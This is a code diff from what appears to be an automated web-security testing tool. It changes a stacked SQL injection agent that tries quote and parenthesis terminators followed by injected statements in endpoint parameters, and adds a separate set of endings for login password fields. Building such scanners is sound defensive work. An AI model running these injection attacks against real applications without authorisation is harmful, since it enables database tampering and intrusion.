@@ -2,6 +2,7 @@
 // Nothing of it need be seen in an answer (a log's INSERT shows none), so it fires and goes on;
 // what changed is read off the world.
 #include <algorithm>
+#include <span>
 
 #include "core/attack/every_agent.h"
 #include "core/attack/options.h"
@@ -25,6 +26,9 @@ Ends ends_for(Spot const& spot) {
     return writes ? Ends{"", ")", ",1)", ",1,1)", "'"} : Ends{"", ")", "'"};
 }
 
+// Text in the place of a password costs the app a hash each time.
+constexpr std::string_view kPasswordEnds[] = {"'", "')"};
+
 class SqlStacked final : public Agent {
     void run(Target& target) override {
         statements_ = split(target.option(option::kStatements), '\n');
@@ -39,9 +43,11 @@ class SqlStacked final : public Agent {
             }
             sign_in_for(target, *endpoint);
             for (std::size_t i = 0; i < endpoint->parameters.size(); ++i) {
-                // Text in the place of a password costs the app a hash each time.
                 bool const password = endpoint->id == login && i == password_parameter(*endpoint);
-                fire(target, {endpoint, i}, password ? 1 : statements_.size() + 1);
+                if (password)
+                    fire(target, {endpoint, i}, kPasswordEnds, 1);
+                else
+                    fire(target, {endpoint, i}, ends_for({endpoint, i}), statements_.size() + 1);
             }
         }
         target.wait(std::chrono::seconds(1));  // some apps answer before their writes are done
@@ -68,9 +74,10 @@ class SqlStacked final : public Agent {
         return start + std::string(end) + chain;
     }
 
-    void fire(Target& target, Spot const& spot, std::size_t chains) const {
+    void fire(Target& target, Spot const& spot, std::span<std::string_view const> ends,
+              std::size_t chains) const {
         std::vector<std::string> const ordinary = samples(*spot.endpoint);
-        for (std::string_view end : ends_for(spot)) {
+        for (std::string_view end : ends) {
             for (std::size_t first = 0; first < chains; ++first) {
                 std::vector<std::string> values = ordinary;
                 values[spot.parameter] = payload(spot.get(), end, chain(first));
